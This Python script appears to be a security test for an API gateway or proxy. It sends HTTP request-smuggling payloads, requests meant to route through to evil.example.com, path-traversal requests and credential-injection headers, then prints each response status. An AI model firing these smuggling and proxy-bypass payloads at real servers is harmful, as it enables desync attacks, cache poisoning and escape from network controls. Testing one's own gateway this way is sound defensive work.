"""requests.py FAMILY [URL]: sends requests that two readers read differently to ANTHROPIC_BASE_URL, or to the URL.

In each of them, "/smuggled" or "evil" is what a reader must not come to see. Prints the status of each answer.
"""

import os
import re
import socket
import sys

URL = sys.argv[2] if len(sys.argv) > 2 else os.environ["ANTHROPIC_BASE_URL"]
HOST = URL.rpartition("/")[2]
KEY = "x-api-key: " + os.environ["ANTHROPIC_API_KEY"]
INNER = "GET /smuggled HTTP/1.1\r\nHost: HOST\r\nX: "


def post(*lines, body=""):
    return "\r\n".join(("POST /v1/messages HTTP/1.1", "Host: HOST", KEY, *lines)) + "\r\n\r\n" + body


SMUGGLING = [
    # CL.CL, CL.TE, TE.CL, TE.TE
    post("Content-Length: 5", "Content-Length: 60", body="12345" + INNER),
    post("Content-Length: 60", "Transfer-Encoding: chunked", body="0\r\n\r\n" + INNER),
    post("Transfer-Encoding: chunked", "Content-Length: 4", body="3a\r\n" + INNER + "\r\n0\r\n\r\n"),
    post("Transfer-Encoding: chunked", "Transfer-Encoding: identity", body="0\r\n\r\n" + INNER),
    post("Transfer-Encoding: xchunked", body="0\r\n\r\n" + INNER),
    post("Transfer-Encoding: chunked, identity", body="0\r\n\r\n" + INNER),
    post("Transfer-Encoding:\x0bchunked", body="0\r\n\r\n" + INNER),
    post("Transfer-Encoding : chunked", body="0\r\n\r\n" + INNER),
    post("X: y\nTransfer-Encoding: chunked", body="0\r\n\r\n" + INNER),
    # Lengths that are numbers to some
    post("Content-Length: +5", body="12345" + INNER),
    post("Content-Length: 5, 60", body="12345" + INNER),
    post("Content-Length: 0x5", body="12345" + INNER),
    # obs-fold, bare LF, a bare CR, a zero
    post("X: y", " Transfer-Encoding: chunked", "Content-Length: 60", body="0\r\n\r\n" + INNER),
    "GET /x HTTP/1.1\nHost: HOST\n\n" + INNER,
    "GET /x HTTP/1.1\r\nHost: HOST\r\nX: y\r\rGET /smuggled HTTP/1.1\r\n\r\n",
    "GET /x HTTP/1.1\r\nHost: HOST\r\nX: y\0GET /smuggled HTTP/1.1\r\n\r\n",
    # Chunks whose size line ends early, or whose data does
    post("Transfer-Encoding: chunked", body="1;x\nGET /smuggled HTTP/1.1\r\nHost: HOST\r\n\r\n"),
    post("Transfer-Encoding: chunked", body="0\n\n" + INNER),
    # Two words too many, a version of its own
    "GET /x HTTP/1.1 GET /smuggled HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "GET /x HTTP/1.1\r\nHost: HOST\r\nConnection: host\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
]

ELSEWHERE = [
    # The absolute form, other schemes, the authority form
    "GET http://evil.example.com/ HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "GET http://evil.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n",
    "GET https://evil.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n",
    "GET ftp://evil.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n",
    "GET http://HOST@evil.example.com/ HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "CONNECT evil.example.com:443 HTTP/1.1\r\nHost: evil.example.com:443\r\n\r\n",
    # Host fields
    "GET / HTTP/1.1\r\nHost: evil.example.com\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: HOST\r\nHost: evil.example.com\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: HOST@evil.example.com\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: HOST, evil.example.com\r\n\r\n",
    # A second request on a kept connection, pipelined behind an honest one
    "GET /honest HTTP/1.1\r\nHost: HOST\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example.com\r\n\r\n",
    "GET /honest HTTP/1.1\r\nHost: HOST\r\n\r\n"
    "GET http://evil.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n",
    # Another protocol behind an upgrade
    "GET /evil HTTP/1.1\r\nHost: HOST\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nevil",
    # Paths around a rule
    "GET /v1/../evil HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "GET /v1/%2e%2E/evil HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "GET /v1\\..\\evil HTTP/1.1\r\nHost: HOST\r\n\r\n",
]

EMPTY = "Content-Length: 2\r\n\r\n{}"
CREDENTIALS = [
    # Another key beside the placeholder, in place of it, in another header, in the query, twice
    "POST /v1/messages HTTP/1.1\r\nHost: HOST\r\n" + KEY + "\r\nAuthorization: Bearer evil-key\r\n" + EMPTY,
    "POST /v1/messages HTTP/1.1\r\nHost: HOST\r\nx-api-key: evil-key\r\n" + EMPTY,
    "POST /v1/messages?key=evil-key HTTP/1.1\r\nHost: HOST\r\n" + KEY + "\r\n" + EMPTY,
    "POST /v1/messages?%6bey=evil-key HTTP/1.1\r\nHost: HOST\r\n" + KEY + "\r\n" + EMPTY,
    "POST /v1/messages HTTP/1.1\r\nHost: HOST\r\n" + KEY + "\r\nx-api-key: evil-key\r\n" + EMPTY,
    "POST /v1/messages HTTP/1.1\r\nHost: HOST\r\n" + KEY + "\r\nX-Goog-Api-Key: evil-key\r\n" + EMPTY,
    "POST /v1/messages HTTP/1.1\r\nHost: HOST\r\n" + KEY + "\r\nCookie: session=evil-key\r\n" + EMPTY,
    "POST /v1/messages HTTP/1.1\r\nHost: HOST\r\nAuthorization: Basic ZXZpbDprZXk=\r\n" + EMPTY,
]

for request in {"smuggling": SMUGGLING, "elsewhere": ELSEWHERE, "credentials": CREDENTIALS}[sys.argv[1]]:
    name, port = HOST.split(":")
    with socket.create_connection((name, int(port)), 1) as connection:
        connection.sendall(request.replace("HOST", HOST).encode("latin-1"))
        if sys.argv[1] == "smuggling":
            connection.shutdown(socket.SHUT_WR)  # what is incomplete shall be judged as it is
        connection.settimeout(0.3)
        answer = b""
        try:
            while piece := connection.recv(65536):
                answer += piece
                if len(sys.argv) > 2:
                    break
        except OSError:
            pass
        print(*re.findall("HTTP/1.1 ([0-9]+)", answer.decode("latin-1")) or ["nothing"])
print("tried")
